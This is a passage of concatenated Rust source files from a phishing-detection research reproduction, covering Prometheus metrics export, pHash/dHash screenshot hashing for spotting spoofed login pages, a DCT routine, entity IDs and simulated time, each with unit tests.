//!    under the registry lock (respecting the [`ExportMode`] determinism
//!    filter), producing an owned [`MetricsSnapshot`] that can outlive
//!    any store locks.
//! 2. [`render_prometheus`] merges any number of `(labels, snapshot)`
//!    sections into one exposition: metrics are grouped by name so each
//!    `# TYPE` line appears exactly once, with one sample line per
//!    labelled section — which is what Prometheus requires when the same
//!    metric (`cb_store_append_records`) is reported by every partition.
//!
//! Rendering is deterministic: names sort via the registry's `BTreeMap`,
//! sections render in argument order, and values are integers throughout
//! (sim-time seconds, counts, bytes), so a fixed seed produces
//! byte-identical text across schedulers in `Canonical` mode — the same
//! contract the JSON exports already keep.

use crate::metrics::MetricsRegistry;
use crate::ExportMode;
use std::fmt::Write;

/// One instrument's captured value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MetricValue {
    /// Monotonic counter total.
    Counter(u64),
    /// Gauge level and high-watermark.
    Gauge {
        /// Current level.
        level: u64,
        /// Highest level (or noted value) seen.
        peak: u64,
    },
    /// Fixed-bucket histogram contents.
    Histogram {
        /// Inclusive upper bounds (overflow bucket excluded).
        bounds: Vec<i64>,
        /// Per-bucket counts, overflow bucket last.
        buckets: Vec<u64>,
        /// Observation count.
        count: u64,
        /// Observation sum.
        sum: i64,
    },
}

/// A point-in-time capture of one registry: `(name, value)` in sorted
/// name order.
#[derive(Debug, Clone, Default)]
pub struct MetricsSnapshot {
    /// Captured instruments, sorted by name.
    pub entries: Vec<(String, MetricValue)>,
}

/// Sanitize a registry metric name (`store.append.records`) into a
/// Prometheus metric name (`cb_store_append_records`).
pub fn prometheus_name(name: &str) -> String {
    let mut out = String::with_capacity(name.len() + 3);
    out.push_str("cb_");
    for (i, c) in name.chars().enumerate() {
        let ok = c.is_ascii_alphanumeric() && !(i == 0 && c.is_ascii_digit());
        out.push(if ok { c } else { '_' });
    }
    out
}

/// Escape a label value per the exposition format.
fn escape_label(value: &str) -> String {
    value.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n")
}

fn label_block(labels: &[(String, String)], extra: Option<(&str, String)>) -> String {
    let mut parts: Vec<String> = labels
        .iter()
        .map(|(k, v)| format!("{k}=\"{}\"", escape_label(v)))
        .collect();
    if let Some((k, v)) = extra {
        parts.push(format!("{k}=\"{}\"", escape_label(&v)));
    }
    if parts.is_empty() {
        String::new()
    } else {
        format!("{{{}}}", parts.join(","))
    }
}

/// Render labelled snapshot sections as one Prometheus text exposition.
///
/// Every distinct metric name gets exactly one `# TYPE` line followed by
/// one sample (or bucket set) per section that carries it. Gauges render
/// as two series: the level under the metric name and the peak under
/// `<name>_peak`. Histograms render cumulative `_bucket` series plus
/// `_sum` and `_count`.
pub fn render_prometheus(sections: &[(Vec<(String, String)>, MetricsSnapshot)]) -> String {
    // name → [(section index, value)] in section order; names sorted.
    let mut by_name: std::collections::BTreeMap<&str, Vec<(usize, &MetricValue)>> =
        std::collections::BTreeMap::new();
    for (si, (_, snapshot)) in sections.iter().enumerate() {
        for (name, value) in &snapshot.entries {
            by_name.entry(name.as_str()).or_default().push((si, value));
        }
    }
    let mut out = String::new();
    for (name, values) in by_name {
        let prom = prometheus_name(name);
        let kind = match values[0].1 {
            MetricValue::Counter(_) => "counter",
            MetricValue::Gauge { .. } => "gauge",
            MetricValue::Histogram { .. } => "histogram",
        };
        let _ = writeln!(out, "# TYPE {prom} {kind}");
        let mut peaks: Vec<(usize, u64)> = Vec::new();
        for (si, value) in &values {
            let labels = &sections[*si].0;
            match value {
                MetricValue::Counter(v) => {
                    let _ = writeln!(out, "{prom}{} {v}", label_block(labels, None));
                }
                MetricValue::Gauge { level, peak } => {
                    let _ = writeln!(out, "{prom}{} {level}", label_block(labels, None));
                    peaks.push((*si, *peak));
                }
                MetricValue::Histogram { bounds, buckets, count, sum } => {
                    let mut cumulative = 0u64;
                    for (bound, bucket) in bounds.iter().zip(buckets) {
                        cumulative += bucket;
                        let _ = writeln!(
                            out,
                            "{prom}_bucket{} {cumulative}",
                            label_block(labels, Some(("le", bound.to_string()))),
                        );
                    }
                    let _ = writeln!(
                        out,
                        "{prom}_bucket{} {count}",
                        label_block(labels, Some(("le", "+Inf".to_string()))),
                    );
                    let _ = writeln!(out, "{prom}_sum{} {sum}", label_block(labels, None));
                    let _ = writeln!(out, "{prom}_count{} {count}", label_block(labels, None));
                }
            }
        }
        if !peaks.is_empty() {
            let _ = writeln!(out, "# TYPE {prom}_peak gauge");
            for (si, peak) in peaks {
                let _ =
                    writeln!(out, "{prom}_peak{} {peak}", label_block(&sections[si].0, None));
            }
        }
    }
    out
}

impl MetricsRegistry {
    /// Render this registry alone as Prometheus text. `Canonical` mode
    /// drops advisory instruments, exactly like [`export_json`].
    ///
    /// [`export_json`]: MetricsRegistry::export_json
    pub fn export_prometheus(&self, mode: ExportMode) -> String {
        render_prometheus(&[(Vec::new(), self.snapshot(mode))])
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::metrics::Determinism;

    fn sample_registry() -> MetricsRegistry {
        let reg = MetricsRegistry::new();
        reg.counter("scan.messages", Determinism::Deterministic).add(7);
        reg.counter("scheduler.steals", Determinism::Advisory).add(3);
        reg.gauge("store.append.pending", Determinism::Deterministic).add(4);
        reg.histogram("visit.latency_s", Determinism::Deterministic, &[1, 5]).observe(3);
        reg.histogram("visit.latency_s", Determinism::Deterministic, &[1, 5]).observe(9);
        reg
    }

    #[test]
    fn names_are_sanitized() {
        assert_eq!(prometheus_name("store.append.records"), "cb_store_append_records");
        assert_eq!(prometheus_name("9weird-name"), "cb__weird_name");
    }

    #[test]
    fn renders_types_samples_and_histogram_buckets() {
        let text = sample_registry().export_prometheus(ExportMode::Full);
        assert!(text.contains("# TYPE cb_scan_messages counter\ncb_scan_messages 7\n"));
        assert!(text.contains("# TYPE cb_scheduler_steals counter\ncb_scheduler_steals 3\n"));
        assert!(text.contains("# TYPE cb_store_append_pending gauge\ncb_store_append_pending 4\n"));
        assert!(text.contains("# TYPE cb_store_append_pending_peak gauge\ncb_store_append_pending_peak 4\n"));
        // Cumulative buckets: 1 observation ≤5, 1 overflow.
        assert!(text.contains("cb_visit_latency_s_bucket{le=\"1\"} 0\n"));
        assert!(text.contains("cb_visit_latency_s_bucket{le=\"5\"} 1\n"));
        assert!(text.contains("cb_visit_latency_s_bucket{le=\"+Inf\"} 2\n"));
        assert!(text.contains("cb_visit_latency_s_sum 12\n"));
        assert!(text.contains("cb_visit_latency_s_count 2\n"));
    }

    #[test]
    fn canonical_mode_filters_advisory_instruments() {
        let text = sample_registry().export_prometheus(ExportMode::Canonical);
        assert!(!text.contains("cb_scheduler_steals"));
        assert!(text.contains("cb_scan_messages 7"));
    }

    #[test]
    fn multi_section_rendering_emits_one_type_line_per_name() {
        let a = sample_registry();
        let b = sample_registry();
        b.counter("scan.messages", Determinism::Deterministic).add(1);
        let text = render_prometheus(&[
            (vec![("partition".into(), "0".into())], a.snapshot(ExportMode::Full)),
            (vec![("partition".into(), "1".into())], b.snapshot(ExportMode::Full)),
        ]);
        assert_eq!(text.matches("# TYPE cb_scan_messages counter").count(), 1);
        assert!(text.contains("cb_scan_messages{partition=\"0\"} 7\n"));
        assert!(text.contains("cb_scan_messages{partition=\"1\"} 8\n"));
        assert!(text.contains("cb_visit_latency_s_bucket{partition=\"0\",le=\"+Inf\"} 2\n"));
    }

    #[test]
    fn export_is_deterministic_for_equal_registries() {
        let a = sample_registry().export_prometheus(ExportMode::Full);
        let b = sample_registry().export_prometheus(ExportMode::Full);
        assert_eq!(a, b);
        assert!(!a.is_empty());
    }
}
