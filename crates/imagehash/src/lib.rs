#![warn(missing_docs)]

//! Perceptual image hashing: pHash and dHash over grayscale bitmaps.
//!
//! CrawlerBox classifies a crawled page as **spear phishing** when its
//! screenshot is visually similar to one of the five companies' legitimate
//! login pages (§V-A). Screenshots "often contain the victim's email address
//! and some injected noise", so exact comparison fails; the paper uses two
//! fuzzy hashes — pHash (perceptual, DCT-based) and dHash (differential,
//! gradient-based) — compared by Hamming distance under a hand-tuned
//! threshold, and reports that their *combination* performs best. Both
//! primarily see grayscale information, which is why the attackers'
//! `hue-rotate(4deg)` trick (§V-C2 d) does not defeat them.
//!
//! # Example
//!
//! ```
//! use cb_artifacts::{Bitmap, Rgb};
//! use cb_imagehash::{phash, dhash, HashPair};
//!
//! let mut login = Bitmap::new(128, 96, Rgb::WHITE);
//! login.fill_rect(0, 0, 128, 14, Rgb::new(0, 60, 180)); // header band
//! login.fill_rect(24, 30, 80, 8, Rgb::new(220, 220, 220)); // form field
//! login.fill_rect(24, 46, 80, 8, Rgb::new(220, 220, 220)); // form field
//! login.fill_rect(44, 64, 40, 10, Rgb::new(0, 60, 180)); // button
//!
//! // The attackers' hue-rotate(4deg) trick changes pixel colours but not
//! // the grayscale structure the hashes see.
//! let cloaked = login.hue_rotate(4.0);
//! let a = HashPair::of(&login);
//! let b = HashPair::of(&cloaked);
//! assert!(a.similar_to(&b, 6));
//! assert_eq!(dhash(&login), dhash(&cloaked));
//! ```

pub mod dct;

use cb_artifacts::Bitmap;
use serde::{Deserialize, Serialize};

/// pHash: resample to 32×32 grayscale, 2-D DCT, take the 8×8 low-frequency
/// block (skipping the DC term for the median), threshold on the median.
pub fn phash(img: &Bitmap) -> u64 {
    let small = img.to_gray().scale_to(32, 32);
    let luma = small.luma_values();
    let input: Vec<f64> = luma.iter().map(|&v| v as f64).collect();
    let freq = dct::dct2_32(&input);

    // Collect the top-left 8x8 coefficients (lowest frequencies).
    let mut coeffs = [0.0f64; 64];
    for y in 0..8 {
        for x in 0..8 {
            coeffs[y * 8 + x] = freq[y * 32 + x];
        }
    }
    // Median over the 64 values excluding the DC coefficient.
    let mut sorted: Vec<f64> = coeffs[1..].to_vec();
    sorted.sort_by(|a, b| a.partial_cmp(b).expect("finite DCT output"));
    let median = (sorted[31] + sorted[32]) / 2.0;

    let mut hash = 0u64;
    for (i, &c) in coeffs.iter().enumerate() {
        if c > median {
            hash |= 1 << i;
        }
    }
    hash
}

/// dHash: resample to 9×8 grayscale and hash the sign of each horizontal
/// gradient.
pub fn dhash(img: &Bitmap) -> u64 {
    let small = img.to_gray().scale_to(9, 8);
    let luma = small.luma_values();
    let mut hash = 0u64;
    let mut bit = 0;
    for y in 0..8 {
        for x in 0..8 {
            if luma[y * 9 + x] > luma[y * 9 + x + 1] {
                hash |= 1 << bit;
            }
            bit += 1;
        }
    }
    hash
}

/// Hamming distance between two 64-bit hashes.
pub fn distance(a: u64, b: u64) -> u32 {
    (a ^ b).count_ones()
}

/// The combined pHash + dHash fingerprint the paper's classifier uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct HashPair {
    /// Perceptual hash.
    pub phash: u64,
    /// Differential hash.
    pub dhash: u64,
}

impl HashPair {
    /// Compute both hashes of `img`.
    pub fn of(img: &Bitmap) -> HashPair {
        HashPair {
            phash: phash(img),
            dhash: dhash(img),
        }
    }

    /// Worst-case (maximum) of the two Hamming distances; requiring *both*
    /// hashes to agree is the combination the paper found most reliable.
    pub fn distance(&self, other: &HashPair) -> u32 {
        distance(self.phash, other.phash).max(distance(self.dhash, other.dhash))
    }

    /// `true` if both hashes are within `threshold` bits.
    pub fn similar_to(&self, other: &HashPair, threshold: u32) -> bool {
        self.distance(other) <= threshold
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cb_artifacts::Rgb;

    /// A deterministic "login page" screenshot: header band, two form
    /// fields, a button.
    fn login_page(brand: Rgb) -> Bitmap {
        let mut img = Bitmap::new(128, 96, Rgb::WHITE);
        img.fill_rect(0, 0, 128, 14, brand);
        img.fill_rect(24, 30, 80, 8, Rgb::new(220, 220, 220));
        img.fill_rect(24, 46, 80, 8, Rgb::new(220, 220, 220));
        img.fill_rect(44, 64, 40, 10, brand);
        img
    }

    /// A visually different page: dense text grid.
    fn newsletter_page() -> Bitmap {
        let mut img = Bitmap::new(128, 96, Rgb::WHITE);
        for row in 0..8 {
            img.fill_rect(6, 6 + row * 11, 116, 5, Rgb::new(30, 30, 30));
        }
        img
    }

    #[test]
    fn identical_images_have_zero_distance() {
        let a = login_page(Rgb::new(0, 60, 180));
        assert_eq!(distance(phash(&a), phash(&a)), 0);
        assert_eq!(distance(dhash(&a), dhash(&a)), 0);
    }

    #[test]
    fn different_layouts_are_far_apart() {
        let a = HashPair::of(&login_page(Rgb::new(0, 60, 180)));
        let b = HashPair::of(&newsletter_page());
        assert!(a.distance(&b) > 16, "distance {}", a.distance(&b));
    }

    #[test]
    fn noise_injection_survives() {
        // The paper: screenshots contain "the victim's email address and
        // some injected noise" yet must still match the legitimate page.
        let clean = login_page(Rgb::new(0, 60, 180));
        let mut noisy = clean.add_noise(99, 60);
        noisy.draw_text(26, 31, "victim@corp.example", 1, Rgb::new(60, 60, 60));
        let a = HashPair::of(&clean);
        let b = HashPair::of(&noisy);
        assert!(a.similar_to(&b, 10), "distance {}", a.distance(&b));
    }

    #[test]
    fn scaling_survives() {
        let clean = login_page(Rgb::new(0, 60, 180));
        let scaled = clean.scale_to(192, 144);
        let a = HashPair::of(&clean);
        let b = HashPair::of(&scaled);
        assert!(a.similar_to(&b, 8), "distance {}", a.distance(&b));
    }

    #[test]
    fn hue_rotate_4deg_does_not_defeat_hashes() {
        // §V-C2(d): the attackers' hue-rotate(4deg) trick is ineffective
        // against grayscale fuzzy hashes — reproduce that claim.
        let clean = login_page(Rgb::new(0, 60, 180));
        let rotated = clean.hue_rotate(4.0);
        let a = HashPair::of(&clean);
        let b = HashPair::of(&rotated);
        assert!(a.similar_to(&b, 6), "distance {}", a.distance(&b));
    }

    #[test]
    fn crop_robustness_shows_hash_complementarity() {
        // Cropping shifts sharp synthetic edges: pHash loses many
        // near-median low-frequency bits, while dHash (gradient signs)
        // barely moves. This complementarity is why the paper combines the
        // two hashes rather than relying on either alone.
        let clean = login_page(Rgb::new(0, 60, 180));
        let cropped = clean.crop(2, 2, 124, 92);
        let a = HashPair::of(&clean);
        let b = HashPair::of(&cropped);
        assert!(
            distance(a.dhash, b.dhash) <= 4,
            "dhash crop distance {}",
            distance(a.dhash, b.dhash)
        );
        assert!(distance(a.phash, b.phash) > distance(a.dhash, b.dhash));
    }

    #[test]
    fn different_brands_same_layout_are_close_on_structure() {
        // Same layout with a different brand colour: grayscale luma differs
        // somewhat but layout dominates. This documents why thresholds are
        // tuned per deployment (the paper: "manually define a threshold").
        let a = HashPair::of(&login_page(Rgb::new(0, 60, 180)));
        let b = HashPair::of(&login_page(Rgb::new(150, 20, 20)));
        assert!(a.distance(&b) <= 20);
    }

    #[test]
    fn distance_is_symmetric_and_bounded() {
        let a = HashPair::of(&login_page(Rgb::new(0, 60, 180)));
        let b = HashPair::of(&newsletter_page());
        assert_eq!(a.distance(&b), b.distance(&a));
        assert!(a.distance(&b) <= 64);
    }
}

