//! Type-II discrete cosine transform for the 32×32 pHash core.
//!
//! Implemented directly from the definition with precomputed cosine tables;
//! at 32×32 the O(n³) separable evaluation is microseconds, so no FFT is
//! needed.

use std::sync::OnceLock;

const N: usize = 32;

/// cos((2x+1)·u·π / 2N) table, indexed `[u][x]`.
fn cos_table() -> &'static [[f64; N]; N] {
    static TABLE: OnceLock<[[f64; N]; N]> = OnceLock::new();
    TABLE.get_or_init(|| {
        let mut t = [[0.0; N]; N];
        for (u, row) in t.iter_mut().enumerate() {
            for (x, cell) in row.iter_mut().enumerate() {
                *cell =
                    ((2 * x + 1) as f64 * u as f64 * std::f64::consts::PI / (2.0 * N as f64)).cos();
            }
        }
        t
    })
}

fn alpha(u: usize) -> f64 {
    if u == 0 {
        (1.0 / N as f64).sqrt()
    } else {
        (2.0 / N as f64).sqrt()
    }
}

/// 1-D type-II DCT of a length-32 slice.
fn dct1d(input: &[f64], output: &mut [f64]) {
    let table = cos_table();
    for u in 0..N {
        let mut sum = 0.0;
        for x in 0..N {
            sum += input[x] * table[u][x];
        }
        output[u] = alpha(u) * sum;
    }
}

/// Separable 2-D type-II DCT of a row-major 32×32 input.
///
/// # Panics
///
/// Panics if `input` is not exactly 1024 elements.
pub fn dct2_32(input: &[f64]) -> Vec<f64> {
    assert_eq!(input.len(), N * N, "dct2_32 expects a 32x32 input");
    let mut rows = vec![0.0; N * N];
    for y in 0..N {
        dct1d(&input[y * N..(y + 1) * N], &mut rows[y * N..(y + 1) * N]);
    }
    let mut out = vec![0.0; N * N];
    let mut col_in = [0.0; N];
    let mut col_out = [0.0; N];
    for x in 0..N {
        for y in 0..N {
            col_in[y] = rows[y * N + x];
        }
        dct1d(&col_in, &mut col_out);
        for y in 0..N {
            out[y * N + x] = col_out[y];
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dc_term_is_scaled_mean() {
        let input = vec![10.0; N * N];
        let out = dct2_32(&input);
        // DC = alpha(0)^2 * sum = (1/N) * N^2 * 10 = N * 10
        assert!((out[0] - N as f64 * 10.0).abs() < 1e-9);
        // all other coefficients vanish for a constant signal
        assert!(out[1..].iter().all(|&c| c.abs() < 1e-9));
    }

    #[test]
    fn parseval_energy_is_preserved() {
        // Orthonormal DCT preserves the L2 norm.
        let input: Vec<f64> = (0..N * N).map(|i| ((i * 37 + 11) % 97) as f64).collect();
        let out = dct2_32(&input);
        let e_in: f64 = input.iter().map(|v| v * v).sum();
        let e_out: f64 = out.iter().map(|v| v * v).sum();
        assert!((e_in - e_out).abs() / e_in < 1e-10);
    }

    #[test]
    fn linearity() {
        let a: Vec<f64> = (0..N * N).map(|i| (i % 13) as f64).collect();
        let b: Vec<f64> = (0..N * N).map(|i| ((i * 7) % 31) as f64).collect();
        let sum: Vec<f64> = a.iter().zip(&b).map(|(x, y)| x + y).collect();
        let da = dct2_32(&a);
        let db = dct2_32(&b);
        let ds = dct2_32(&sum);
        for i in 0..N * N {
            assert!((ds[i] - da[i] - db[i]).abs() < 1e-8);
        }
    }

    #[test]
    fn single_cosine_concentrates_in_one_bin() {
        // input = cos basis function (u=3 horizontal) should excite only
        // coefficients in column 3 of row 0.
        let mut input = vec![0.0; N * N];
        for y in 0..N {
            for x in 0..N {
                input[y * N + x] =
                    ((2 * x + 1) as f64 * 3.0 * std::f64::consts::PI / (2.0 * N as f64)).cos();
            }
        }
        let out = dct2_32(&input);
        let peak = out[3].abs();
        for (i, &c) in out.iter().enumerate() {
            if i != 3 {
                assert!(c.abs() < peak / 1e6, "leak at {i}: {c}");
            }
        }
    }

    #[test]
    #[should_panic(expected = "32x32")]
    fn wrong_size_panics() {
        dct2_32(&[0.0; 10]);
    }
}
