//! Stable entity identifiers.
//!
//! Messages, domains, certificates, crawl sessions and screenshots all need
//! identities that survive serialization to the crawl log. An [`EntityId`] is
//! a `(kind, ordinal)` pair allocated by an [`IdAllocator`]; kinds keep log
//! lines self-describing (`msg-001234`, `dom-000042`).

use serde::{Deserialize, Serialize};
use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};

/// The category of entity an id names.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum EntityKind {
    /// A reported email message.
    Message,
    /// A registered domain name.
    Domain,
    /// A TLS certificate.
    Certificate,
    /// A crawl session (one browser launch).
    CrawlSession,
    /// A captured screenshot.
    Screenshot,
    /// A hosted web page.
    Page,
    /// An HTTP exchange in the crawl log.
    HttpExchange,
    /// A phishing campaign (a set of related messages).
    Campaign,
}

impl EntityKind {
    /// Short prefix used in the `Display` rendering.
    pub fn prefix(self) -> &'static str {
        match self {
            EntityKind::Message => "msg",
            EntityKind::Domain => "dom",
            EntityKind::Certificate => "crt",
            EntityKind::CrawlSession => "crw",
            EntityKind::Screenshot => "scr",
            EntityKind::Page => "pag",
            EntityKind::HttpExchange => "exc",
            EntityKind::Campaign => "cmp",
        }
    }
}

/// A unique identity within one simulation run.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct EntityId {
    kind: EntityKind,
    ordinal: u64,
}

impl EntityId {
    /// Construct from parts. Prefer [`IdAllocator::next`] in production code;
    /// this constructor exists for tests and deserialization fixtures.
    pub fn from_parts(kind: EntityKind, ordinal: u64) -> Self {
        EntityId { kind, ordinal }
    }

    /// The entity category.
    pub fn kind(&self) -> EntityKind {
        self.kind
    }

    /// The per-kind ordinal.
    pub fn ordinal(&self) -> u64 {
        self.ordinal
    }
}

impl fmt::Display for EntityId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}-{:06}", self.kind.prefix(), self.ordinal)
    }
}

/// Thread-safe allocator of per-kind ordinals.
#[derive(Debug, Default)]
pub struct IdAllocator {
    counters: [AtomicU64; 8],
}

impl IdAllocator {
    /// A fresh allocator with all ordinals starting at zero.
    pub fn new() -> Self {
        Self::default()
    }

    fn slot(kind: EntityKind) -> usize {
        match kind {
            EntityKind::Message => 0,
            EntityKind::Domain => 1,
            EntityKind::Certificate => 2,
            EntityKind::CrawlSession => 3,
            EntityKind::Screenshot => 4,
            EntityKind::Page => 5,
            EntityKind::HttpExchange => 6,
            EntityKind::Campaign => 7,
        }
    }

    /// Allocate the next id of `kind`.
    pub fn next(&self, kind: EntityKind) -> EntityId {
        let ordinal = self.counters[Self::slot(kind)].fetch_add(1, Ordering::Relaxed);
        EntityId { kind, ordinal }
    }

    /// How many ids of `kind` have been allocated so far.
    pub fn count(&self, kind: EntityKind) -> u64 {
        self.counters[Self::slot(kind)].load(Ordering::Relaxed)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ids_are_sequential_per_kind() {
        let alloc = IdAllocator::new();
        let a = alloc.next(EntityKind::Message);
        let b = alloc.next(EntityKind::Message);
        let c = alloc.next(EntityKind::Domain);
        assert_eq!(a.ordinal(), 0);
        assert_eq!(b.ordinal(), 1);
        assert_eq!(c.ordinal(), 0);
        assert_eq!(alloc.count(EntityKind::Message), 2);
        assert_eq!(alloc.count(EntityKind::Certificate), 0);
    }

    #[test]
    fn display_is_prefixed() {
        let id = EntityId::from_parts(EntityKind::Domain, 42);
        assert_eq!(id.to_string(), "dom-000042");
    }

    #[test]
    fn ids_hash_and_compare() {
        use std::collections::HashSet;
        let alloc = IdAllocator::new();
        let mut set = HashSet::new();
        for _ in 0..100 {
            set.insert(alloc.next(EntityKind::Page));
        }
        assert_eq!(set.len(), 100);
    }

    #[test]
    fn allocation_is_thread_safe() {
        let alloc = std::sync::Arc::new(IdAllocator::new());
        let mut handles = Vec::new();
        for _ in 0..4 {
            let a = alloc.clone();
            handles.push(std::thread::spawn(move || {
                for _ in 0..1000 {
                    a.next(EntityKind::HttpExchange);
                }
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(alloc.count(EntityKind::HttpExchange), 4000);
    }
}
