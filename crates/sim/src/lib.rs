#![warn(missing_docs)]

//! Simulation plumbing shared by every CrawlerBox-RS crate.
//!
//! The reproduction runs against a *simulated internet*, so all components
//! agree on a common notion of time ([`SimTime`], [`SimDuration`], advanced
//! through a [`Clock`]), on deterministic randomness ([`rng::fork`] derives
//! independent, reproducible streams from one master seed), and on stable
//! entity identifiers ([`id::EntityId`]).
//!
//! Nothing in this crate knows about phishing; it is the substrate the
//! substrates stand on.
//!
//! # Example
//!
//! ```
//! use cb_sim::{Clock, SimDuration, SimTime};
//!
//! let clock = Clock::starting_at(SimTime::from_ymd(2024, 1, 1));
//! clock.advance(SimDuration::hours(24));
//! assert_eq!(clock.now().ymd(), (2024, 1, 2));
//! ```

pub mod id;
pub mod rng;
pub mod time;

pub use id::EntityId;
pub use rng::SeedFork;
pub use time::{Clock, Month, SimDuration, SimTime};
