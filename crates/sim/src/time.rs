//! Simulated wall-clock time.
//!
//! Time is counted in whole **seconds since the simulation epoch**
//! (1970-01-01 00:00:00, mirroring Unix time so that WHOIS records, TLS
//! certificate validity windows and message delivery timestamps read
//! naturally). A proleptic Gregorian calendar conversion is implemented from
//! scratch — the reproduction must not depend on host time, which would break
//! determinism.

use serde::{Deserialize, Serialize};
use std::fmt;
use std::sync::atomic::{AtomicI64, Ordering};

/// Seconds in one minute.
const MINUTE: i64 = 60;
/// Seconds in one hour.
const HOUR: i64 = 3_600;
/// Seconds in one day.
const DAY: i64 = 86_400;

/// A span of simulated time, in seconds. May be negative (e.g. the paper's
/// `timedeltaA` for a domain registered *after* delivery never occurs, but
/// arithmetic must still be total).
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimDuration(i64);

impl SimDuration {
    /// The zero-length duration.
    pub const ZERO: SimDuration = SimDuration(0);

    /// A duration of `n` seconds.
    pub const fn seconds(n: i64) -> Self {
        SimDuration(n)
    }

    /// A duration of `n` minutes.
    pub const fn minutes(n: i64) -> Self {
        SimDuration(n * MINUTE)
    }

    /// A duration of `n` hours.
    pub const fn hours(n: i64) -> Self {
        SimDuration(n * HOUR)
    }

    /// A duration of `n` days.
    pub const fn days(n: i64) -> Self {
        SimDuration(n * DAY)
    }

    /// Total seconds in this duration.
    pub const fn as_seconds(self) -> i64 {
        self.0
    }

    /// Whole hours in this duration (truncating toward zero).
    pub const fn as_hours(self) -> i64 {
        self.0 / HOUR
    }

    /// Whole days in this duration (truncating toward zero).
    pub const fn as_days(self) -> i64 {
        self.0 / DAY
    }

    /// Fractional days, for statistics over timedelta distributions.
    pub fn as_days_f64(self) -> f64 {
        self.0 as f64 / DAY as f64
    }

    /// Fractional hours.
    pub fn as_hours_f64(self) -> f64 {
        self.0 as f64 / HOUR as f64
    }

    /// `true` if this duration is negative.
    pub const fn is_negative(self) -> bool {
        self.0 < 0
    }

    /// Absolute value of the duration.
    pub const fn abs(self) -> Self {
        SimDuration(self.0.abs())
    }
}

impl std::ops::Add for SimDuration {
    type Output = SimDuration;
    fn add(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 + rhs.0)
    }
}

impl std::ops::Sub for SimDuration {
    type Output = SimDuration;
    fn sub(self, rhs: SimDuration) -> SimDuration {
        SimDuration(self.0 - rhs.0)
    }
}

impl std::ops::Mul<i64> for SimDuration {
    type Output = SimDuration;
    fn mul(self, rhs: i64) -> SimDuration {
        SimDuration(self.0 * rhs)
    }
}

impl fmt::Display for SimDuration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = self.0.abs();
        let sign = if self.0 < 0 { "-" } else { "" };
        if s >= DAY {
            write!(f, "{sign}{}d{}h", s / DAY, (s % DAY) / HOUR)
        } else if s >= HOUR {
            write!(f, "{sign}{}h{}m", s / HOUR, (s % HOUR) / MINUTE)
        } else {
            write!(f, "{sign}{}s", s)
        }
    }
}

/// An instant of simulated time: seconds since 1970-01-01 00:00:00.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default, Serialize, Deserialize,
)]
pub struct SimTime(i64);

/// Month of the year, 1-based like every calendar humans use.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub struct Month(pub u32);

impl Month {
    /// English three-letter abbreviation ("Jan" ... "Dec").
    ///
    /// # Panics
    ///
    /// Panics if the month is outside `1..=12`.
    pub fn abbrev(self) -> &'static str {
        const NAMES: [&str; 12] = [
            "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
        ];
        NAMES[(self.0 - 1) as usize]
    }
}

impl fmt::Display for Month {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.abbrev())
    }
}

/// `true` if `year` is a Gregorian leap year.
const fn is_leap(year: i64) -> bool {
    (year % 4 == 0 && year % 100 != 0) || year % 400 == 0
}

/// Days in `month` of `year` (month is 1-based).
const fn days_in_month(year: i64, month: u32) -> i64 {
    match month {
        1 | 3 | 5 | 7 | 8 | 10 | 12 => 31,
        4 | 6 | 9 | 11 => 30,
        2 => {
            if is_leap(year) {
                29
            } else {
                28
            }
        }
        _ => panic!("month out of range"),
    }
}

/// Days from the epoch (1970-01-01) to the first day of `year`.
fn days_to_year(year: i64) -> i64 {
    // Count leap days between 1970 and `year` exclusive using the closed-form
    // count of leap years before a given year.
    fn leaps_before(y: i64) -> i64 {
        let y = y - 1;
        y / 4 - y / 100 + y / 400
    }
    (year - 1970) * 365 + (leaps_before(year) - leaps_before(1970))
}

impl SimTime {
    /// The simulation epoch: 1970-01-01 00:00:00.
    pub const EPOCH: SimTime = SimTime(0);

    /// Construct from raw seconds since the epoch.
    pub const fn from_unix(secs: i64) -> Self {
        SimTime(secs)
    }

    /// Seconds since the epoch.
    pub const fn as_unix(self) -> i64 {
        self.0
    }

    /// Midnight at the start of the given calendar date.
    ///
    /// # Panics
    ///
    /// Panics if `month` is outside `1..=12` or `day` is invalid for the
    /// month.
    pub fn from_ymd(year: i64, month: u32, day: u32) -> Self {
        Self::from_ymd_hms(year, month, day, 0, 0, 0)
    }

    /// A full calendar timestamp.
    ///
    /// # Panics
    ///
    /// Panics on out-of-range calendar components.
    pub fn from_ymd_hms(year: i64, month: u32, day: u32, hour: u32, min: u32, sec: u32) -> Self {
        assert!((1..=12).contains(&month), "month {month} out of range");
        assert!(
            day >= 1 && (day as i64) <= days_in_month(year, month),
            "day {day} out of range for {year}-{month:02}"
        );
        assert!(hour < 24 && min < 60 && sec < 60, "time component range");
        let mut days = days_to_year(year);
        for m in 1..month {
            days += days_in_month(year, m);
        }
        days += day as i64 - 1;
        SimTime(days * DAY + hour as i64 * HOUR + min as i64 * MINUTE + sec as i64)
    }

    /// Decompose into `(year, month, day)`.
    pub fn ymd(self) -> (i64, u32, u32) {
        let mut days = self.0.div_euclid(DAY);
